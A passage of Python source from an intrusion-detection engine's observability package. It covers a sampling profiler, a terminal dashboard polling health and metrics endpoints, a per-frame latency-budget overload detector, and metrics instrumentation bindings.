        rows.sort(key=lambda row: (-row[1], -row[2], row[0]))
        return rows[:n]


class StackSampler(_SamplerBase):
    """Thread-based wall-clock sampler over ``sys._current_frames()``.

    Samples the thread that calls :meth:`start` (or an explicit target
    thread id); safe to run anywhere, including cluster worker processes
    and non-main threads.
    """

    def __init__(
        self,
        interval: float = DEFAULT_INTERVAL,
        target_thread_id: int | None = None,
    ) -> None:
        super().__init__(interval)
        self._target = target_thread_id
        self._thread: threading.Thread | None = None
        self._stop = threading.Event()

    def start(self) -> "StackSampler":
        if self._thread is not None:
            return self
        if self._target is None:
            self._target = threading.get_ident()
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._run, daemon=True, name="scidive-profiler"
        )
        self._thread.start()
        return self

    def _run(self) -> None:
        target = self._target
        while not self._stop.wait(self.interval):
            self._ingest(sys._current_frames().get(target))

    def stop(self) -> None:
        thread = self._thread
        if thread is None:
            return
        self._stop.set()
        thread.join(timeout=2.0)
        self._thread = None


class SignalSampler(_SamplerBase):
    """CPU-time sampler driven by ``ITIMER_PROF``/``SIGPROF``.

    Only samples while the process is actually burning CPU, so blocking
    waits vanish from the profile.  Must start from the main thread
    (signal handlers are a main-thread affair in CPython).
    """

    def __init__(self, interval: float = DEFAULT_INTERVAL) -> None:
        super().__init__(interval)
        self._previous = None
        self._armed = False

    def start(self) -> "SignalSampler":
        if self._armed:
            return self
        if threading.current_thread() is not threading.main_thread():
            raise RuntimeError("SignalSampler must start from the main thread")
        self._previous = signal.signal(signal.SIGPROF, self._handler)
        signal.setitimer(signal.ITIMER_PROF, self.interval, self.interval)
        self._armed = True
        return self

    def _handler(self, signum, frame) -> None:
        self._ingest(frame)

    def stop(self) -> None:
        if not self._armed:
            return
        signal.setitimer(signal.ITIMER_PROF, 0.0, 0.0)
        if self._previous is not None:
            signal.signal(signal.SIGPROF, self._previous)
        self._previous = None
        self._armed = False


@contextmanager
def attach_profiler(
    interval: float = DEFAULT_INTERVAL,
) -> Iterator[StackSampler]:
    """Profile the calling thread for the duration of a block."""
    sampler = StackSampler(interval)
    sampler.start()
    try:
        yield sampler
    finally:
        sampler.stop()


def format_top(sampler: _SamplerBase, n: int = 12) -> str:
    """A plain-text hottest-frames table for CLI output."""
    rows = sampler.top(n)
    total = sampler.samples or 1
    lines = [
        f"{'self%':>7}  {'total%':>7}  frame",
        f"{'-----':>7}  {'------':>7}  {'-' * 40}",
    ]
    for label, self_count, total_count in rows:
        lines.append(
            f"{100.0 * self_count / total:6.1f}%  "
            f"{100.0 * total_count / total:6.1f}%  {label}"
        )
    if not rows:
        lines.append("(no samples)")
    return "\n".join(lines)


__all__ = [
    "DEFAULT_INTERVAL",
    "SignalSampler",
    "StackSampler",
    "attach_profiler",
    "format_top",
]
