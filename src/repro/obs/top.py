"""``repro top``: a terminal dashboard over the observability sidecar.

Polls ``/healthz`` and ``/metrics/history`` on a running ``--serve-http``
sidecar and renders the operator's view of a live SCIDIVE deployment:

* throughput — sliding-window frames/s, events/s, alerts/s, shed/s
  derived from the history ring;
* latency — per-frame and per-stage p50/p90/p99 from the streaming
  quantile summaries;
* cost — the top-K most expensive rules by sampled match() time;
* load — the latency-budget burn rate with an OVERLOAD banner, plus
  per-shard queue depths, live/dead workers and restart counts when a
  cluster is behind the sidecar.

Two modes: a curses screen that refreshes every ``interval`` seconds
(``q`` quits), and ``--once`` which prints a single plain-text snapshot
and exits — the CI smoke job and scripts use the latter, so every panel
below is pure string rendering over the JSON payloads and the curses
layer is only a repaint loop around it.
"""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from typing import Any

from repro.obs.retry import with_retries

DEFAULT_INTERVAL = 1.0
DEFAULT_WINDOW = 10.0
DEFAULT_TIMEOUT = 2.0
TOP_RULES = 5


def fetch_json(url: str, timeout: float = DEFAULT_TIMEOUT) -> Any:
    def _get() -> Any:
        with urllib.request.urlopen(url, timeout=timeout) as resp:
            return json.loads(resp.read().decode("utf-8"))

    # A sidecar that is still binding (or briefly overloaded) gets three
    # jittered-backoff attempts before the panel reports it unreachable.
    return with_retries(_get)


def gather(base_url: str, timeout: float = DEFAULT_TIMEOUT) -> dict[str, Any]:
    """One poll: both endpoints, or an ``error`` entry when unreachable."""
    base = base_url.rstrip("/")
    try:
        return {
            "health": fetch_json(f"{base}/healthz", timeout),
            "history": fetch_json(f"{base}/metrics/history", timeout),
        }
    except (urllib.error.URLError, OSError, ValueError) as exc:
        return {"error": f"{base}: {exc}"}


def window_rates(history: dict[str, Any], window: float) -> dict[str, float]:
    """Client-side sliding-window rates over the history payload."""
    samples = history.get("samples", [])
    fields = history.get("counter_fields", ["frames", "events", "alerts", "shed"])
    zero = {f"{field}_per_s": 0.0 for field in fields}
    if len(samples) < 2:
        return zero
    newest = samples[-1]
    baseline = samples[0]
    horizon = newest["t"] - window
    for snap in samples:
        if snap["t"] >= horizon:
            baseline = snap
            break
    dt = newest["t"] - baseline["t"]
    if dt <= 0:
        return zero
    return {
        f"{field}_per_s": max(
            newest["totals"].get(field, 0) - baseline["totals"].get(field, 0), 0
        ) / dt
        for field in fields
    }


def _ms(seconds: float) -> str:
    return f"{seconds * 1e3:8.3f}"


def _quantile_row(label: str, view: dict[str, Any]) -> str:
    return (
        f"  {label:<12}{_ms(view.get('p50', 0.0))}{_ms(view.get('p90', 0.0))}"
        f"{_ms(view.get('p99', 0.0))}  n={view.get('count', 0)}"
    )


def _overload_lines(view: dict[str, Any]) -> list[str]:
    """The overload-controller panel (engine and cluster views alike)."""
    state = view.get("state", "?")
    banner = state if state == "normal" else str(state).upper()
    lines = [
        f"  overload: [{banner}]  "
        f"fill {view.get('queue_fill', 0.0):.2f}  "
        f"burn {view.get('burn_rate', 0.0):.2f}x  "
        f"shed-rate {view.get('shed_rate', 0.0):.1%}"
    ]
    transitions = view.get("transitions_total") or {}
    if transitions:
        lines.append(
            "    transitions: "
            + "  ".join(f"{edge} x{n}" for edge, n in transitions.items())
        )
    heavy = sorted(
        (view.get("shed_by_source") or {}).items(), key=lambda kv: -kv[1]
    )[:TOP_RULES]
    if heavy:
        lines.append(
            "    penalty box: "
            + "  ".join(f"{ip}={count:,}" for ip, count in heavy)
        )
    return lines


def render(status: dict[str, Any], window: float = DEFAULT_WINDOW) -> list[str]:
    """The full dashboard as lines of text (shared by --once and curses)."""
    now = time.strftime("%H:%M:%S")
    if "error" in status:
        return [
            f"SCIDIVE top · {now}",
            "",
            f"  sidecar unreachable: {status['error']}",
            "  (start a run with --serve-http PORT, then point top at it)",
        ]
    health = status.get("health", {})
    history = status.get("history", {})
    lines = [f"SCIDIVE top · {now} · status {health.get('status', '?')}"]

    rates = window_rates(history, window)
    lines.append(
        f"  rates ({window:g}s): "
        f"{rates.get('frames_per_s', 0.0):,.1f} frames/s  "
        f"{rates.get('events_per_s', 0.0):,.1f} events/s  "
        f"{rates.get('alerts_per_s', 0.0):,.2f} alerts/s  "
        f"{rates.get('shed_per_s', 0.0):,.1f} shed/s"
    )

    engine = health.get("engine")
    if engine:
        lines.append("")
        lines.append(
            f"engine {engine.get('name', '?')}: "
            f"{engine.get('frames', 0):,} frames  "
            f"{engine.get('footprints', 0):,} footprints  "
            f"{engine.get('events', 0):,} events  "
            f"{engine.get('alerts', 0):,} alerts  "
            f"trails {engine.get('live_trails', 0):,}"
        )
        pack = engine.get("rulepack")
        if pack:
            reloads = engine.get("rulepack_reloads", 0)
            lines.append(
                f"  rulepack: {pack.get('label', '?')}  "
                f"({pack.get('rules', '?')} rules"
                + (f", {reloads} reloads" if reloads else "")
                + ")"
            )
        budget = engine.get("latency_budget")
        if budget:
            state = "OVERLOAD" if budget.get("overloaded") else "ok"
            lines.append(
                f"  budget: burn {budget.get('burn_rate', 0.0):.2f}x of "
                f"{budget.get('budget_seconds', 0.0) * 1e3:g} ms/frame  "
                f"[{state}]  over-budget "
                f"{budget.get('over_budget_fraction', 0.0):.1%} of frames  "
                f"self-alerts {budget.get('alerts_emitted', 0)}"
            )
        overload = engine.get("overload")
        if overload:
            lines.extend(_overload_lines(overload))
        frame_q = engine.get("frame_latency")
        stage_q = engine.get("stage_latency")
        if frame_q or stage_q:
            lines.append("")
            lines.append("  latency (ms)      p50     p90     p99")
            if frame_q:
                lines.append(_quantile_row("frame", frame_q))
            for stage, view in (stage_q or {}).items():
                lines.append(_quantile_row(stage, view))
        top = engine.get("top_rules")
        if top:
            lines.append("")
            lines.append("  top rules by cost (sampled)")
            for entry in top[:TOP_RULES]:
                lines.append(
                    f"    {entry.get('rule_id', '?'):<14}"
                    f"{entry.get('cost_seconds', 0.0) * 1e3:9.3f} ms total  "
                    f"{entry.get('cost_per_match', 0.0) * 1e6:8.2f} us/match  "
                    f"{entry.get('cost_samples', 0)} samples"
                )
        firewall = engine.get("firewall")
        if firewall and firewall.get("quarantined"):
            names = ", ".join(":".join(pair) for pair in firewall["quarantined"])
            lines.append(f"  quarantined: {names}")

    cluster = health.get("cluster")
    if cluster:
        lines.append("")
        alive = cluster.get("workers_alive", 0)
        total = cluster.get("workers", 0)
        lines.append(
            f"cluster ({cluster.get('backend', '?')}): "
            f"{alive}/{total} workers alive  "
            f"{cluster.get('frames_in', 0):,} frames in  "
            f"{cluster.get('frames_dropped', 0):,} shed  "
            f"{cluster.get('worker_restarts', 0)} restarts"
        )
        pack = cluster.get("rulepack")
        if pack:
            reloads = cluster.get("rulepack_reloads", 0)
            lines.append(
                f"  rulepack: {pack.get('label', '?')}  "
                f"({pack.get('rules', '?')} rules"
                + (f", {reloads} reloads" if reloads else "")
                + ")"
            )
        depths = cluster.get("queue_depths", [])
        if depths:
            lines.append(
                "  queue depths: " + " ".join(str(d) for d in depths)
            )
        shed = cluster.get("frames_shed") or {}
        if shed:
            lines.append(
                "  shed by plane: "
                + "  ".join(
                    f"{plane}={count:,}" for plane, count in sorted(shed.items())
                )
            )
        overload = cluster.get("overload")
        if overload:
            lines.extend(_overload_lines(overload))
        dead = cluster.get("worker_dead", [])
        if dead:
            lines.append(f"  DEAD shards: {dead}")
        for label, key in (("frame", "frame_latency"),):
            view = cluster.get(key)
            if view:
                lines.append("  latency (ms)      p50     p90     p99")
                lines.append(_quantile_row(label, view))
        stage_q = cluster.get("stage_latency")
        for stage, view in (stage_q or {}).items():
            lines.append(_quantile_row(stage, view))

    samples = history.get("samples", [])
    if samples:
        lines.append("")
        lines.append(
            f"history: {history.get('samples_taken', len(samples))} samples "
            f"(ring {history.get('capacity', '?')}), "
            f"last at t={samples[-1]['t']:.1f}"
        )
    return lines


def run_once(base_url: str, window: float = DEFAULT_WINDOW) -> int:
    status = gather(base_url)
    print("\n".join(render(status, window)))
    return 1 if "error" in status else 0


def run_curses(
    base_url: str,
    interval: float = DEFAULT_INTERVAL,
    window: float = DEFAULT_WINDOW,
) -> int:
    import curses

    def _loop(stdscr) -> int:
        curses.curs_set(0)
        stdscr.nodelay(True)
        while True:
            status = gather(base_url)
            lines = render(status, window)
            stdscr.erase()
            max_y, max_x = stdscr.getmaxyx()
            for y, line in enumerate(lines[: max_y - 1]):
                stdscr.addnstr(y, 0, line, max_x - 1)
            stdscr.addnstr(
                max_y - 1, 0,
                f"q quit · refresh {interval:g}s · {base_url}",
                max_x - 1, curses.A_REVERSE,
            )
            stdscr.refresh()
            deadline = time.monotonic() + interval
            while time.monotonic() < deadline:
                key = stdscr.getch()
                if key in (ord("q"), ord("Q")):
                    return 0
                time.sleep(0.05)

    return curses.wrapper(_loop)
