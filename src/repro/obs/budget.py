"""Per-frame latency budget: the engine's own overload detector.

A production IDS that falls behind the wire is silently blind — frames
queue, detection delay grows, and nothing in the alert stream says so.
This module gives every engine a *latency budget*: a per-frame wall-time
allowance (default :data:`DEFAULT_FRAME_BUDGET`).  The detector tracks a
sliding window of recent frame latencies and derives a **burn rate** —
how many budgets the engine is spending per frame, on average, across
the window.  A burn rate of 1.0 means the engine is exactly keeping up;
sustained burn above :data:`DEFAULT_BURN_THRESHOLD` means the engine
cannot drain a full wire at this traffic mix, and the detector emits a
``SELF-OVERLOAD`` self-diagnostic alert through the same path the
exception firewall uses — so overload is an *alert*, subject to the same
subscribers, logs and counters as any detection verdict.

The per-frame cost is one deque append/pop and a handful of float ops,
and only when a detector is attached; dark engines pay a single
``is not None`` guard.
"""

from __future__ import annotations

from collections import deque
from typing import Callable

from repro.core.alerts import Alert, Severity

# Self-diagnostic rule id — greppable, never collides with detection rules.
OVERLOAD_RULE_ID = "SELF-OVERLOAD"

# Default per-frame wall-time allowance.  5 ms/frame is ~200 frames/s
# sustained — far above anything the simulated testbeds produce per
# frame, so the detector stays quiet unless the pipeline genuinely
# degrades (pathological rule, GC storm, oversubscribed host).
DEFAULT_FRAME_BUDGET = 0.005

# Sliding window length in frames.  Long enough that one slow frame
# (housekeeping sweep, cold caches) cannot trip the alarm; short enough
# that sustained overload is caught within a few hundred frames.
DEFAULT_WINDOW = 256

# Burn rate that declares overload: spending this many budgets per frame
# across a full window.
DEFAULT_BURN_THRESHOLD = 1.0


class LatencyBudgetDetector:
    """Sliding-window burn-rate detector over per-frame latencies."""

    __slots__ = (
        "budget", "window", "burn_threshold", "engine_name", "emit_alert",
        "frames", "frames_over_budget", "alerts_emitted",
        "_latencies", "_window_sum", "_frames_since_alert", "_alert_floor",
    )

    def __init__(
        self,
        budget: float = DEFAULT_FRAME_BUDGET,
        window: int = DEFAULT_WINDOW,
        burn_threshold: float = DEFAULT_BURN_THRESHOLD,
        engine_name: str = "scidive",
        emit_alert: Callable[[Alert], None] | None = None,
    ) -> None:
        if budget <= 0:
            raise ValueError(f"budget must be > 0 (got {budget})")
        if window < 2:
            raise ValueError(f"window must be >= 2 (got {window})")
        self.budget = budget
        self.window = window
        self.burn_threshold = burn_threshold
        self.engine_name = engine_name
        # Wired by the engine to its self-alert sink; None = count only.
        self.emit_alert = emit_alert
        self.frames = 0
        self.frames_over_budget = 0
        self.alerts_emitted = 0
        self._latencies: deque[float] = deque(maxlen=window)
        self._window_sum = 0.0
        self._frames_since_alert = window  # first window may alert
        # Window-sum threshold for overload, precomputed off the hot path.
        self._alert_floor = burn_threshold * budget * window

    # -- hot path -------------------------------------------------------------

    def record(self, seconds: float, timestamp: float) -> bool:
        """Absorb one frame's latency; True when the window is overloaded.

        ``timestamp`` is the frame's sim-clock time, used only to stamp
        the self-diagnostic alert so it sorts into the alert timeline.
        """
        self.frames += 1
        if seconds > self.budget:
            self.frames_over_budget += 1
        latencies = self._latencies
        if len(latencies) == self.window:
            # maxlen deque: this append ejects latencies[0].
            self._window_sum += seconds - latencies[0]
        else:
            self._window_sum += seconds
        latencies.append(seconds)
        self._frames_since_alert += 1
        if len(latencies) < self.window:
            return False
        if self._window_sum < self._alert_floor:
            return False
        # Overloaded.  Alert at most once per window of frames, so a
        # sustained overload produces a heartbeat, not an alert flood.
        if self._frames_since_alert >= self.window:
            self._frames_since_alert = 0
            self.alerts_emitted += 1
            if self.emit_alert is not None:
                self.emit_alert(self._overload_alert(timestamp))
        return True

    # -- surfacing ------------------------------------------------------------

    @property
    def burn_rate(self) -> float:
        """Budgets spent per frame across the current window."""
        n = len(self._latencies)
        if n == 0:
            return 0.0
        return self._window_sum / (n * self.budget)

    @property
    def overloaded(self) -> bool:
        return (
            len(self._latencies) >= self.window
            and self.burn_rate >= self.burn_threshold
        )

    @property
    def over_budget_fraction(self) -> float:
        return self.frames_over_budget / self.frames if self.frames else 0.0

    def _overload_alert(self, timestamp: float) -> Alert:
        return Alert(
            rule_id=OVERLOAD_RULE_ID,
            rule_name="self-diagnostic: frame latency budget exhausted",
            time=timestamp,
            session="",
            severity=Severity.HIGH,
            attack_class="self-diagnostic",
            message=(
                f"engine {self.engine_name!r} burning "
                f"{self.burn_rate:.2f}x its {self.budget * 1e3:g} ms/frame "
                f"latency budget over the last {self.window} frames "
                f"({self.over_budget_fraction:.0%} of all frames over "
                f"budget); detection is falling behind the wire"
            ),
        )

    def as_dict(self) -> dict:
        """The /healthz view (plain JSON-safe types)."""
        return {
            "budget_seconds": self.budget,
            "window_frames": self.window,
            "burn_threshold": self.burn_threshold,
            "burn_rate": round(self.burn_rate, 4),
            "overloaded": self.overloaded,
            "frames": self.frames,
            "frames_over_budget": self.frames_over_budget,
            "over_budget_fraction": round(self.over_budget_fraction, 4),
            "alerts_emitted": self.alerts_emitted,
        }

    def reset(self) -> None:
        """Zero the window and counters (between experiment phases)."""
        self.frames = 0
        self.frames_over_budget = 0
        self.alerts_emitted = 0
        self._latencies.clear()
        self._window_sum = 0.0
        self._frames_since_alert = self.window
