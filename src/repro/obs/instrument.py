"""Instrumentation bindings between the engine and the metrics registry.

:class:`EngineInstrumentation` pre-resolves every metric handle the
engine's hot path touches, so instrumented processing costs one ``is
not None`` branch plus a handful of dict lookups per frame — and
nothing at all when observability is off (the engine holds ``None``).

Metric families (all prefixed ``scidive_``, all labelled by ``engine``
so cooperating detectors share a registry without colliding):

* ``scidive_frames_total`` — raw frames ingested.
* ``scidive_footprints_total{protocol}`` — footprints by protocol.
* ``scidive_events_total{event}`` — generator events by name.
* ``scidive_alerts_total{rule_id,severity}`` — alerts raised.
* ``scidive_injected_events_total`` — cooperative-detection injections.
* ``scidive_stage_seconds{stage}`` — per-stage latency histogram.
* ``scidive_frame_latency_seconds`` — per-frame latency summary
  (streaming p50/p90/p99 via the mergeable quantile sketch).
* ``scidive_stage_latency_seconds{stage}`` /
  ``scidive_module_latency_seconds{protocol}`` — per-stage and
  per-protocol-module latency summaries.
* ``scidive_rule_cost_seconds_total{rule_id}`` /
  ``scidive_rule_cost_samples_total{rule_id}`` — sampled per-rule match
  cost (see :attr:`repro.core.rules.RuleSet.cost_sample_rate`).
* ``scidive_frame_budget_burn_rate`` — the latency-budget detector's
  current burn rate (budgets spent per frame over its window).
* ``scidive_generator_seconds_total`` / ``scidive_generator_calls_total``
  — cumulative per-generator wall time and fan-out counts.
* ``scidive_housekeeping_runs_total`` / ``…_reclaimed_trails_total``.
* ``scidive_trails`` / ``_sessions`` / ``_sip_dialogs`` /
  ``_registration_sessions`` — state-size gauges.
* ``scidive_distiller_*`` — distiller counter snapshot gauges.
"""

from __future__ import annotations

from typing import Any

from repro.core.hooks import FootprintHook
from repro.obs.registry import DEFAULT_BUCKETS, MetricsRegistry
from repro.obs.tracing import Tracer

# Stage histograms cover sub-microsecond decode steps up to 100 ms.
STAGE_BUCKETS = tuple(b for b in DEFAULT_BUCKETS if b <= 0.1)


class EngineInstrumentation:
    """Per-engine metric handles over a shared registry."""

    __slots__ = (
        "registry", "tracer", "engine", "summaries", "summary_sample",
        "_frames", "_footprints", "_events", "_alerts", "_injected",
        "_stage", "_generator", "_generator_calls",
        "_housekeeping_runs", "_reclaimed",
        "_trails", "_sessions", "_dialogs", "_registrations", "_distiller",
        "_footprint_children", "_event_children", "_stage_children",
        "_gen_seconds_acc", "_gen_calls_acc",
        "_frame_summary", "_stage_summary", "_module_summary",
        "_stage_summary_children", "_module_children",
        "_rule_cost", "_rule_cost_samples",
        "_rule_cost_flushed", "_rule_samples_flushed", "_burn_rate",
        "_shadow_matches", "_shadow_flushed", "_rulepack_reloads",
        "_spans_dropped", "_spans_dropped_flushed",
    )

    def __init__(
        self,
        registry: MetricsRegistry,
        engine: str = "scidive",
        tracer: Tracer | None = None,
        summaries: bool = True,
        summary_sample: int = 4,
    ) -> None:
        self.registry = registry
        self.tracer = tracer
        self.engine = engine
        self.summaries = summaries
        self.summary_sample = max(1, summary_sample)
        label = {"engine": engine}
        self._frames = registry.counter(
            "scidive_frames_total", "Raw frames ingested", ("engine",)
        ).labels(**label)
        self._footprints = registry.counter(
            "scidive_footprints_total", "Footprints distilled, by protocol",
            ("engine", "protocol"),
        )
        self._events = registry.counter(
            "scidive_events_total", "Generator events, by event name",
            ("engine", "event"),
        )
        self._alerts = registry.counter(
            "scidive_alerts_total", "Alerts raised, by rule and severity",
            ("engine", "rule_id", "severity"),
        )
        self._injected = registry.counter(
            "scidive_injected_events_total",
            "Events injected by cooperating detectors", ("engine",),
        ).labels(**label)
        self._stage = registry.histogram(
            "scidive_stage_seconds", "Wall-clock seconds per pipeline stage",
            ("engine", "stage"), buckets=STAGE_BUCKETS,
        )
        self._generator = registry.counter(
            "scidive_generator_seconds_total",
            "Cumulative wall-clock seconds per event generator",
            ("engine", "generator"),
        )
        self._generator_calls = registry.counter(
            "scidive_generator_calls_total",
            "Footprints fanned out per event generator",
            ("engine", "generator"),
        )
        self._housekeeping_runs = registry.counter(
            "scidive_housekeeping_runs_total", "Housekeeping sweeps", ("engine",)
        ).labels(**label)
        self._reclaimed = registry.counter(
            "scidive_housekeeping_reclaimed_trails_total",
            "Trails reclaimed by housekeeping", ("engine",),
        ).labels(**label)
        self._trails = registry.gauge(
            "scidive_trails", "Live trails", ("engine",)
        ).labels(**label)
        self._sessions = registry.gauge(
            "scidive_sessions", "Live cross-protocol sessions", ("engine",)
        ).labels(**label)
        self._dialogs = registry.gauge(
            "scidive_sip_dialogs", "Tracked SIP dialogs", ("engine",)
        ).labels(**label)
        self._registrations = registry.gauge(
            "scidive_registration_sessions", "Tracked REGISTER sessions", ("engine",)
        ).labels(**label)
        self._distiller = registry.gauge(
            "scidive_distiller_frames", "Distiller counter snapshot",
            ("engine", "counter"),
        )
        # Latency summaries (streaming p50/p90/p99).  None when summaries
        # are off — hot-path call sites guard on the child, so disabling
        # summaries removes their entire cost, not just their exposition.
        if summaries:
            self._frame_summary = registry.summary(
                "scidive_frame_latency_seconds",
                "Per-frame pipeline latency quantiles", ("engine",),
            ).labels(**label)
            self._stage_summary = registry.summary(
                "scidive_stage_latency_seconds",
                "Per-stage latency quantiles", ("engine", "stage"),
            )
            self._module_summary = registry.summary(
                "scidive_module_latency_seconds",
                "Per-protocol-module latency quantiles (generate + match)",
                ("engine", "protocol"),
            )
        else:
            self._frame_summary = None
            self._stage_summary = None
            self._module_summary = None
        self._rule_cost = registry.counter(
            "scidive_rule_cost_seconds_total",
            "Estimated wall-clock seconds per rule (sampled, scaled)",
            ("engine", "rule_id"),
        )
        self._rule_cost_samples = registry.counter(
            "scidive_rule_cost_samples_total",
            "Timed match() invocations per rule", ("engine", "rule_id"),
        )
        self._burn_rate = registry.gauge(
            "scidive_frame_budget_burn_rate",
            "Latency-budget burn rate (budgets spent per frame)", ("engine",),
        ).labels(**label)
        self._shadow_matches = registry.counter(
            "scidive_shadow_matches_total",
            "Alerts a shadow-mode rule would have raised", ("engine", "rule_id"),
        )
        self._rulepack_reloads = registry.counter(
            "scidive_rulepack_reloads_total",
            "Successful rule-pack hot reloads", ("engine",),
        ).labels(**label)
        # Span-cap overflow accounting (only meaningful when tracing).
        if tracer is not None:
            self._spans_dropped = registry.counter(
                "scidive_spans_dropped_total",
                "Spans discarded at the tracer's max_spans bound", ("engine",),
            ).labels(**label)
        else:
            self._spans_dropped = None
        self._spans_dropped_flushed = 0
        # Hot-path label children resolved once per distinct value, then
        # hit these dicts — keeps per-frame cost to dict lookups.
        self._footprint_children: dict[str, Any] = {}
        self._event_children: dict[str, Any] = {}
        self._stage_children: dict[str, Any] = {}
        self._stage_summary_children: dict[str, Any] = {}
        self._module_children: dict[str, Any] = {}
        # Rule costs live on the Rule objects (sampled there); update_gauges
        # flushes the *delta* since the last flush into the counters, so
        # the registry stays monotonic while rules keep plain floats.
        self._rule_cost_flushed: dict[str, float] = {}
        self._rule_samples_flushed: dict[str, int] = {}
        # Shadow matches follow the same delta-flush pattern: rules count
        # plain ints on the match path, the registry sees deltas here.
        self._shadow_flushed: dict[str, int] = {}
        # Per-generator time/call tallies accumulate in plain dicts (a
        # float add per generator per frame) and flush to the registry
        # in update_gauges — a histogram observe per generator per frame
        # was the single largest instrumentation cost.
        self._gen_seconds_acc: dict[str, float] = {}
        self._gen_calls_acc: dict[str, int] = {}

    def as_hook(self, sample_every: int = 8) -> "InstrumentationHook":
        """The engine-facing hook that feeds this instrumentation."""
        return InstrumentationHook(
            self, sample_every=sample_every, summary_every=self.summary_sample
        )

    # -- hot-path hooks (called per frame) ----------------------------------

    def frame(self) -> None:
        self._frames.inc()

    def footprint(self, protocol: str) -> None:
        child = self._footprint_children.get(protocol)
        if child is None:
            child = self._footprints.labels(engine=self.engine, protocol=protocol)
            self._footprint_children[protocol] = child
        child.inc()

    def event(self, name: str) -> None:
        child = self._event_children.get(name)
        if child is None:
            child = self._events.labels(engine=self.engine, event=name)
            self._event_children[name] = child
        child.inc()

    def alert(self, alert: Any) -> None:
        self._alerts.labels(
            engine=self.engine,
            rule_id=alert.rule_id,
            severity=alert.severity.name,
        ).inc()

    def injected_event(self) -> None:
        self._injected.inc()

    def stage(self, stage: str, seconds: float, frame: int = 0,
              sim_time: float = 0.0, **meta: Any) -> None:
        """Record one stage execution: histogram sample + optional span."""
        self.stage_child(stage).observe(seconds)
        tracer = self.tracer
        if tracer is not None and (tracer.context or not tracer.gate):
            tracer.record(stage, seconds, frame=frame,
                          sim_time=sim_time, **meta)

    def stage_child(self, stage: str):
        """The raw histogram child for one stage — the engine pre-resolves
        these so its hot path observes without any method indirection."""
        child = self._stage_children.get(stage)
        if child is None:
            child = self._stage.labels(engine=self.engine, stage=stage)
            self._stage_children[stage] = child
        return child

    def stage_summary_child(self, stage: str):
        """The quantile-sketch child for one stage (None when summaries
        are off — callers guard, paying nothing)."""
        if self._stage_summary is None:
            return None
        child = self._stage_summary_children.get(stage)
        if child is None:
            child = self._stage_summary.labels(engine=self.engine, stage=stage)
            self._stage_summary_children[stage] = child
        return child

    def frame_summary_child(self):
        return self._frame_summary

    def module_child(self, protocol: str):
        if self._module_summary is None:
            return None
        child = self._module_children.get(protocol)
        if child is None:
            child = self._module_summary.labels(
                engine=self.engine, protocol=protocol
            )
            self._module_children[protocol] = child
        return child

    def frame_counter_child(self):
        return self._frames

    def merge_generator_seconds(self, seconds: dict[str, float],
                                calls: dict[str, int]) -> None:
        """Absorb the engine's inline per-generator tallies."""
        for generator, total in seconds.items():
            self._gen_seconds_acc[generator] = (
                self._gen_seconds_acc.get(generator, 0.0) + total
            )
        for generator, count in calls.items():
            self._gen_calls_acc[generator] = (
                self._gen_calls_acc.get(generator, 0) + count
            )

    def generator_time(self, generator: str, seconds: float) -> None:
        self._gen_seconds_acc[generator] = (
            self._gen_seconds_acc.get(generator, 0.0) + seconds
        )
        self._gen_calls_acc[generator] = self._gen_calls_acc.get(generator, 0) + 1

    # -- housekeeping / gauges (called off the per-frame path) ----------------

    def housekeeping(self, reclaimed: int) -> None:
        self._housekeeping_runs.inc()
        if reclaimed:
            self._reclaimed.inc(reclaimed)

    def update_gauges(self, engine: Any) -> None:
        """Snapshot state sizes from a :class:`ScidiveEngine` and flush
        the per-generator time tallies into the registry."""
        self._trails.set(engine.trails.trail_count)
        self._sessions.set(engine.trails.session_count)
        self._dialogs.set(engine.sip_state.call_count)
        self._registrations.set(engine.registrations.session_count)
        for counter, value in engine.distiller.stats.as_dict().items():
            self._distiller.labels(engine=self.engine, counter=counter).set(value)
        for generator, seconds in self._gen_seconds_acc.items():
            self._generator.labels(engine=self.engine, generator=generator).inc(seconds)
        self._gen_seconds_acc.clear()
        for generator, calls in self._gen_calls_acc.items():
            self._generator_calls.labels(
                engine=self.engine, generator=generator
            ).inc(calls)
        self._gen_calls_acc.clear()
        self.flush_rule_costs(engine.ruleset.rules)
        if self._spans_dropped is not None:
            # Delta-flush the tracer's plain drop count into the
            # monotonic counter; a negative delta means the tracer was
            # clear()ed, so re-baseline the watermark.
            delta = self.tracer.dropped - self._spans_dropped_flushed
            if delta > 0:
                self._spans_dropped.inc(delta)
                self._spans_dropped_flushed = self.tracer.dropped
            elif delta < 0:
                self._spans_dropped_flushed = self.tracer.dropped
        budget = getattr(engine, "latency_budget", None)
        if budget is not None:
            self._burn_rate.set(budget.burn_rate)

    def flush_rule_costs(self, rules: Any) -> None:
        """Push each rule's sampled cost *delta* into the counters.

        Rules accumulate ``cost_seconds``/``cost_samples`` as plain
        floats on the hot path (see :class:`repro.core.rules.RuleSet`);
        this converts them into monotonic registry counters off the
        per-frame path.
        """
        flushed = self._rule_cost_flushed
        flushed_n = self._rule_samples_flushed
        for rule in rules:
            rid = rule.rule_id
            delta = rule.cost_seconds - flushed.get(rid, 0.0)
            if delta > 0.0:
                self._rule_cost.labels(engine=self.engine, rule_id=rid).inc(delta)
                flushed[rid] = rule.cost_seconds
            delta_n = rule.cost_samples - flushed_n.get(rid, 0)
            if delta_n > 0:
                self._rule_cost_samples.labels(
                    engine=self.engine, rule_id=rid
                ).inc(delta_n)
                flushed_n[rid] = rule.cost_samples
        flushed_s = self._shadow_flushed
        for rule in rules:
            rid = rule.rule_id
            delta_s = rule.shadow_matches - flushed_s.get(rid, 0)
            if delta_s > 0:
                self._shadow_matches.labels(
                    engine=self.engine, rule_id=rid
                ).inc(delta_s)
                flushed_s[rid] = rule.shadow_matches

    def rulepack_reloaded(self) -> None:
        """One successful hot reload (scidive_rulepack_reloads_total)."""
        self._rulepack_reloads.inc()


class InstrumentationHook(FootprintHook):
    """The engine's pluggable hook when observability is on.

    Pre-resolves every metric child the footprint pipeline touches, so
    each callback costs a histogram observe / counter inc plus at most
    one dict lookup.  Per-generator seconds are sampled 1 in
    ``sample_every`` footprints and scaled back up at flush; call counts
    are reconstructed exactly at flush from per-protocol footprint
    counts × the engine's dispatch tables (under indexed dispatch a
    generator only runs for the protocols it declared).
    """

    __slots__ = (
        "instr", "tracer", "sample_every",
        "_c_frames", "_h_distill", "_h_state", "_h_trail",
        "_h_generate", "_h_match",
        "_s_frame", "_s_distill", "_s_generate", "_s_match", "_s_housekeep",
        "_module_cache", "summary_every", "_summary_tick", "_summary_on",
        "_gen_secs", "_fp_counts", "_sample_tick",
    )

